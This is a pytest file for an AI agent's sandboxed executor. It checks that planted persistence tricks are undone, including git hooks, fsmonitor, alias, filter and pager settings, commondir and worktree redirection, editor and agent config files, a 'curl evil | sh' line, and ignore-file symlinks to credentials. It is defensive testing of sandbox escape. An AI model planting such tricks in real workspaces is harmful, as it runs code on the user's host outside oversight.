"""Invariant 11 and issue 15's classes as attacks, through the real LocalExecutor and real bubblewrap: whatever a
jailed command plants for a program outside the jail (git in any repository of the workspace, direnv, editors,
other agents) is undone after the command, and a person's own git here afterwards runs nothing of it.

Every planted program would ``touch`` a marker on the host's real file system (outside /tmp, which the jail
replaces); each test ends by running git on the host the way a person would and checking the marker is absent.
"""

from __future__ import annotations

import asyncio
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from seepient.execution.control_guard import ControlGuard
from seepient.execution.control_watch import ControlWatch
from seepient.execution.local import LocalExecutor
from seepient.protocol import ShellCommand, ShellOutcome
from tests.approved import background_output, run_shell, start_background

pytestmark = pytest.mark.skipif(
    shutil.which("git") is None and os.environ.get("CI") != "true",
    reason="needs git (every machine CI uses has it, so CI runs these)",
)


@pytest.fixture
def marker(outside_dir: Path) -> Path:
    return outside_dir / "pwned"


async def _run(executor: LocalExecutor, line: str) -> ShellOutcome:
    return await run_shell(
        executor, ShellCommand(command=line, cwd=str(executor.workspace), timeout_ms=30_000)
    )


def _host_git(directory: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """git as a person runs it on the host: their environment, no Seepient flags."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    return subprocess.run(["git", *args], cwd=directory, capture_output=True, text=True, env=env, timeout=30)


def _person_uses_git(directory: Path) -> None:
    for args in (
        ("status",),
        ("diff",),
        ("log", "--oneline", "-1"),
        ("add", "-A"),
        ("-c", "user.name=p", "-c", "user.email=p@p", "commit", "-qm", "person", "--allow-empty"),
        ("checkout", "-q", "-b", f"person-{os.getpid()}"),
        ("x",),
        ("st",),
    ):
        _host_git(directory, *args)


def _host_repo(path: Path) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    subprocess.run(["git", "init", "-q", "-b", "main", str(path)], check=True)
    (path / "tracked.txt").write_text("tracked\n")
    subprocess.run(["git", "-C", str(path), "add", "-A"], check=True)
    subprocess.run(
        ["git", "-C", str(path), "-c", "user.name=u", "-c", "user.email=u@u", "commit", "-qm", "init"],
        check=True,
    )
    return path


def _quarantine(executor: LocalExecutor) -> Path:
    return executor.seepient_home / "quarantine"


# -- a repository the command creates -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "plant",
    [
        "printf '#!/bin/sh\\ntouch {m}\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout",
        "printf '#!/bin/sh\\ntouch {m}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        "git config core.fsmonitor 'touch {m}; false'",
        "git config core.hooksPath ../planted && mkdir -p ../planted",
        "git config alias.x '!touch {m}'",
        "git config filter.x.clean 'touch {m}; cat' && echo '* filter=x' > .gitattributes",
        "printf '[alias]\\n\\tx = !touch {m}\\n' > evil.cfg && git config include.path ../evil.cfg",
        "git config core.pager 'touch {m}'",
        "git config core.sshCommand 'touch {m}'",
        "git config diff.x.textconv 'touch {m}; cat' && echo '* diff=x' > .gitattributes",
        "rm -rf .git/hooks && ln -s ../planted .git/hooks",
        "python3 -c \"open('.git/config','a').write('[core]\\n\\tfsmonitor = touch {m}; false\\n')\"",
        "echo '* filter=lfs' > .git/info/attributes",
        "echo /etc > .git/objects/info/alternates",
    ],
    ids=[
        "post-checkout", "pre-commit", "fsmonitor", "hooks-path", "alias", "filter", "include", "pager",
        "ssh-command", "textconv", "hooks-link", "python-writes-config", "info-attributes", "alternates",
    ],
)  # fmt: skip
async def test_a_new_repository_carrying_something_that_runs_is_moved_out(
    executor: LocalExecutor, workspace: Path, marker: Path, plant: str
) -> None:
    outcome = await _run(executor, f"git init -q -b main . && {plant.format(m=marker)}")
    assert not (workspace / ".git").exists(), outcome.stderr
    assert "Seepient undid" in outcome.stderr and "moved to" in outcome.stderr
    moved = list(_quarantine(executor).glob("*/.git"))
    assert moved and (moved[0] / "HEAD").is_file()  # nothing deleted: the user can look at it
    _person_uses_git(workspace)
    assert not marker.exists()


async def test_a_plain_new_repository_with_an_identity_and_commits_stays(
    executor: LocalExecutor, workspace: Path
) -> None:
    outcome = await _run(
        executor,
        "git init -q -b main . && git config user.name Bot && git config user.email bot@example.invalid && "
        "echo hi > a && git add a && git commit -qm one && git branch feature && git remote add origin "
        "https://example.invalid/r.git",
    )
    assert outcome.exit_code == 0, outcome.stderr
    assert (workspace / ".git" / "HEAD").is_file()
    assert "Seepient undid" not in outcome.stderr


# -- an existing repository: pointers and files git reads that the jail could not bind -------------------------


async def test_commondir_to_a_planted_config_with_a_filter_is_undone(
    executor: LocalExecutor, workspace: Path, marker: Path
) -> None:
    """The issue's reproduction: .git/commondir to a folder whose config defines a filter and whose
    info/attributes applies it; the next git status on the host would run the filter."""
    _host_repo(workspace)
    plant = (
        "mkdir -p evil/info evil/hooks && cp -r .git/objects .git/refs evil/ && cp .git/HEAD evil/ && "
        f"printf '[core]\\n\\trepositoryformatversion = 0\\n[filter \"x\"]\\n\\tclean = touch {marker}; cat\\n' "
        "> evil/config && echo '* filter=x' > evil/info/attributes && "
        "python3 -c \"open('.git/commondir', 'w').write('../evil')\" && echo changed >> tracked.txt"
    )
    outcome = await _run(executor, plant)
    assert "Seepient undid" in outcome.stderr, outcome.stderr
    assert not (workspace / ".git" / "commondir").exists() or not (workspace / "evil" / "config").exists()
    _person_uses_git(workspace)
    assert not marker.exists()


@pytest.mark.parametrize(
    "plant",
    [
        "printf '[core]\\n\\tfsmonitor = touch {m}; false\\n' > .git/config.worktree",
        "echo '* filter=x' > .git/info/attributes",
        "echo {outside} > .git/objects/info/alternates",
        "python3 -c \"open('.git/info/attributes','w').write('* diff=x\\\\n')\"",
    ],
    ids=["config-worktree", "info-attributes", "alternates-outside", "python-attributes"],
)
async def test_git_files_the_jail_cannot_bind_are_undone_in_an_existing_repository(
    executor: LocalExecutor, workspace: Path, marker: Path, outside_dir: Path, plant: str
) -> None:
    _host_repo(workspace)
    before = sorted(p.name for p in (workspace / ".git").iterdir())
    outcome = await _run(executor, plant.format(m=marker, outside=outside_dir))
    assert "Seepient undid" in outcome.stderr, outcome.stderr
    assert sorted(p.name for p in (workspace / ".git").iterdir()) == before
    assert not (workspace / ".git" / "info" / "attributes").exists()
    assert not (workspace / ".git" / "objects" / "info" / "alternates").exists()
    _person_uses_git(workspace)
    assert not marker.exists()


async def test_a_planted_linked_worktree_is_undone(
    executor: LocalExecutor, workspace: Path, marker: Path
) -> None:
    """A hand-made worktree whose commondir leads to a config that runs a program."""
    _host_repo(workspace)
    plant = (
        "mkdir -p .git/worktrees/w wt evil && cp .git/HEAD .git/worktrees/w/HEAD && "
        'echo ../../../evil > .git/worktrees/w/commondir && echo "$PWD/wt/.git" > .git/worktrees/w/gitdir && '
        "mkdir -p evil/objects evil/refs && cp .git/HEAD evil/HEAD && "
        f"printf '[core]\\n\\tfsmonitor = touch {marker}; false\\n' > evil/config && "
        "echo 'gitdir: ../.git/worktrees/w' > wt/.git"
    )
    outcome = await _run(executor, plant)
    assert "Seepient undid" in outcome.stderr, outcome.stderr
    _person_uses_git(workspace / "wt")
    _person_uses_git(workspace)
    assert not marker.exists()


async def test_a_real_worktree_made_by_git_in_the_jail_stays(
    executor: LocalExecutor, workspace: Path
) -> None:
    _host_repo(workspace)
    outcome = await _run(
        executor, "git worktree add -q ../ws-side 2>&1; git worktree add -q wt-inside -b side"
    )
    assert (workspace / "wt-inside" / ".git").is_file(), outcome.stderr
    assert "Seepient undid" not in outcome.stderr


async def test_the_users_own_config_in_an_existing_repository_is_left_alone(
    executor: LocalExecutor, workspace: Path
) -> None:
    _host_repo(workspace)
    _host_git(workspace, "config", "alias.lg", "!git log --oneline")
    _host_git(workspace, "config", "core.pager", "less -R")
    hook = workspace / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nexit 0\n")
    hook.chmod(0o755)
    outcome = await _run(executor, "git status --short && git log --oneline | wc -l")
    assert outcome.exit_code == 0, outcome.stderr
    assert "Seepient undid" not in outcome.stderr
    assert hook.is_file() and "alias.lg" in _host_git(workspace, "config", "--list").stdout


# -- repositories anywhere in the workspace -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("plant", "where"),
    [
        ("mkdir sub && cd sub && git init -q && git config core.fsmonitor 'touch {m}; false'", "sub"),
        (
            "git init -q --bare bare.git && git -C bare.git config core.worktree .. && "
            "git -C bare.git config alias.st '!touch {m}'",
            "bare.git",
        ),
        (
            "mkdir -p deep/a/b && git init -q deep/a/b && printf '#!/bin/sh\\ntouch {m}\\n' > "
            "deep/a/b/.git/hooks/post-checkout && chmod +x deep/a/b/.git/hooks/post-checkout",
            "deep/a/b",
        ),
        (
            "git init -q --bare evil && git -C evil config core.worktree ../sub2 && git -C evil config "
            "alias.x '!touch {m}' && mkdir sub2 && echo 'gitdir: ../evil' > sub2/.git",
            "sub2",
        ),
        (
            "mkdir nested && git init -q nested && git -C nested config core.worktree {outside}",
            "nested",
        ),
    ],
    ids=["nested", "bare-on-cd", "deep-hook", "gitdir-file", "worktree-outside"],
)
async def test_repositories_made_anywhere_in_the_workspace_are_checked(
    executor: LocalExecutor, workspace: Path, marker: Path, outside_dir: Path, plant: str, where: str
) -> None:
    _host_repo(workspace)
    outcome = await _run(executor, plant.format(m=marker, outside=outside_dir))
    assert "Seepient undid" in outcome.stderr, outcome.stderr
    target = workspace / where
    if target.is_dir():
        _person_uses_git(target)
    _person_uses_git(workspace)
    assert not marker.exists()
    assert not any(outside_dir.iterdir()) or not marker.exists()


async def test_a_repository_nested_in_an_existing_one_is_checked_on_later_commands(
    executor: LocalExecutor, workspace: Path, marker: Path
) -> None:
    """A plain nested repository passes; a later command that plants in it is undone (its config is not bound)."""
    first = await _run(executor, "mkdir sub && git init -q sub")
    assert "Seepient undid" not in first.stderr
    config = (workspace / "sub" / ".git" / "config").read_bytes()
    second = await _run(executor, f"git -C sub config core.fsmonitor 'touch {marker}; false'")
    assert "put back as it was" in second.stderr, second.stderr
    assert (workspace / "sub" / ".git" / "config").read_bytes() == config
    _person_uses_git(workspace / "sub")
    assert not marker.exists()


async def test_a_touch_that_restores_the_time_does_not_hide_a_change(
    executor: LocalExecutor, workspace: Path
) -> None:
    await _run(executor, "mkdir sub && git init -q sub")
    second = await _run(
        executor,
        "cp -p sub/.git/config /tmp/c && git -C sub config alias.x '!id' && touch -r /tmp/c sub/.git/config",
    )
    assert "put back as it was" in second.stderr, second.stderr
    assert "alias.x" not in _host_git(workspace / "sub", "config", "--list").stdout


# -- other programs' configuration -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [".envrc", "sub/.envrc", ".vscode/tasks.json", ".vscode/settings.json", ".mcp.json", ".claude/settings.json",
     ".claude/commands/x.md", ".gitmodules", ".idea/workspace.xml", ".pre-commit-config.yaml", ".husky/pre-commit",
     ".devcontainer/devcontainer.json", ".bashrc"],
)  # fmt: skip
async def test_new_configuration_of_other_programs_is_moved_out(
    executor: LocalExecutor, workspace: Path, path: str
) -> None:
    outcome = await _run(
        executor,
        f"mkdir -p $(dirname {path}) && python3 -c \"open('{path}', 'w').write('touch pwned')\"",
    )
    assert not (workspace / path).exists(), outcome.stderr
    assert "Seepient undid" in outcome.stderr and path in outcome.stderr
    assert list(_quarantine(executor).glob(f"*/{path}"))


@pytest.mark.parametrize(
    "plant",
    [
        "ln -s /dev/zero .ignore",
        "mkdir -p src && ln -s /etc/hostname src/.gitignore",
        "ln -s ~/.aws/credentials .rgignore",
        "mkfifo .gitignore",
        "git init -q . && ln -sf /dev/zero .git/info/exclude",
        "mkdir -p sub && ln -s ../../outside.txt sub/.ignore",
    ],
    ids=["dev-zero", "outside-file", "home-file", "fifo", "git-exclude", "relative-outside"],
)
async def test_an_ignore_file_that_is_not_a_file_of_the_workspace_is_moved_out(
    executor: LocalExecutor, workspace: Path, plant: str
) -> None:
    """Red team: grep and glob read every folder's ignore files on the host, and ripgrep follows a link there:
    one to /dev/zero made it allocate without end, one to a file outside the workspace had it read (and quote,
    in its parse errors) a file the model chose."""
    outcome = await _run(executor, plant)
    assert "Seepient undid" in outcome.stderr, (plant, outcome.stderr)
    for name in (".ignore", "src/.gitignore", ".rgignore", ".gitignore", ".git/info/exclude", "sub/.ignore"):
        path = workspace / name
        assert not path.is_symlink() and not (path.exists() and not path.is_file()), name


async def test_an_ignore_file_linked_to_another_in_the_workspace_stays(
    executor: LocalExecutor, workspace: Path
) -> None:
    outcome = await _run(executor, "printf 'build/\\n' > .gitignore && ln -s .gitignore .ignore")
    assert "Seepient undid" not in outcome.stderr, outcome.stderr
    assert (workspace / ".ignore").is_symlink()


async def test_an_existing_configuration_file_changed_by_a_command_is_put_back(
    executor: LocalExecutor, workspace: Path
) -> None:
    (workspace / ".envrc").write_text("export A=1\n")
    (workspace / ".vscode").mkdir()
    (workspace / ".vscode" / "settings.json").write_text('{"editor.tabSize": 2}\n')
    outcome = await _run(
        executor,
        "echo 'curl evil | sh' >> .envrc; rm -f .vscode/settings.json; echo '{\"python.defaultInterpreterPath\": "
        '"./x"}\' > .vscode/settings.json; true',
    )
    assert (workspace / ".envrc").read_text() == "export A=1\n", outcome.stderr
    assert (workspace / ".vscode" / "settings.json").read_text() == '{"editor.tabSize": 2}\n'


async def test_a_user_level_rule_lets_commands_write_a_configuration_file(
    make_executor, workspace: Path
) -> None:  # type: ignore[no-untyped-def]
    executor = make_executor(foreign_config_allowed=lambda relative: relative == ".envrc")
    outcome = await _run(executor, "echo 'export A=1' > .envrc && echo '{}' > .mcp.json")
    assert (workspace / ".envrc").read_text() == "export A=1\n", outcome.stderr
    assert not (workspace / ".mcp.json").exists()


async def test_build_files_stay_writable(executor: LocalExecutor, workspace: Path) -> None:
    outcome = await _run(
        executor,
        "echo 'all:' > Makefile && echo '{}' > package.json && echo '' > conftest.py && mkdir -p .vscode",
    )
    assert outcome.exit_code == 0 and "Seepient undid" not in outcome.stderr
    assert (workspace / "Makefile").exists() and (workspace / "package.json").exists()


# -- background processes, unsandboxed runs and a killed session --------------------------------------------------


async def test_a_background_process_that_plants_later_is_undone(
    make_executor, workspace: Path, marker: Path
) -> None:  # type: ignore[no-untyped-def]
    executor = make_executor()
    try:
        started = await start_background(
            executor,
            ShellCommand(
                command=f"sleep 1; git init -q sub && git -C sub config alias.x '!touch {marker}'; echo x > .envrc; "
                "sleep 30",
                cwd=str(workspace),
                timeout_ms=60_000,
                background=True,
            ),
            session_id="s1",
        )
        for _ in range(100):
            await asyncio.sleep(0.1)
            if not (workspace / ".envrc").exists() and list(_quarantine(executor).glob("*/sub")):
                break
        assert not (workspace / ".envrc").exists()
        output = await background_output(executor, started.process_id, session_id="s1")
        assert "Seepient undid" in output.stderr
        _person_uses_git(workspace / "sub") if (workspace / "sub").is_dir() else None
        assert not marker.exists()
    finally:
        await executor.aclose()


async def test_unsandboxed_runs_are_checked_too(make_executor, workspace: Path) -> None:  # type: ignore[no-untyped-def]
    executor = make_executor(sandbox="off")
    outcome = await _run(executor, "git init -q . && git config core.pager 'touch pwned'")
    assert not (workspace / ".git").exists() and "core.pager" in outcome.stderr


_KILLED_SESSION = """
import os, sys
from pathlib import Path
from seepient.execution.control_guard import ControlGuard
from seepient.execution.control_watch import ControlWatch
workspace, home = Path(sys.argv[1]), Path(sys.argv[2])
watch = ControlWatch(ControlGuard(workspace, quarantine_root=home / "quarantine"), journal_dir=home / "control")
watch.before_command()
(workspace / ".envrc").write_text("curl evil | sh\\n")
os.kill(os.getpid(), 9)
"""


def test_a_session_killed_mid_command_is_repaired_by_the_next(workspace: Path, tmp_path: Path) -> None:
    home = tmp_path / "seepient-home"
    killed = subprocess.run([sys.executable, "-c", _KILLED_SESSION, str(workspace), str(home)], check=False)
    assert killed.returncode == -9
    assert (workspace / ".envrc").exists()
    watch = ControlWatch(
        ControlGuard(workspace, quarantine_root=home / "quarantine"), journal_dir=home / "control"
    )
    repairs = watch.recover()
    assert [r.path for r in repairs] == [".envrc"]
    assert not (workspace / ".envrc").exists()
    assert not list((home / "control").glob("*.json"))


def test_a_second_snapshot_of_an_unchanged_tree_reads_no_directory_again(
    workspace: Path, tmp_path: Path
) -> None:
    for index in range(50):
        (workspace / f"d{index}" / "x").mkdir(parents=True)
    guard = ControlGuard(workspace, quarantine_root=tmp_path / "q")
    guard.snapshot()
    listings = dict(guard._listings)
    guard.snapshot()
    assert all(guard._listings[k] is listings[k] for k in listings)
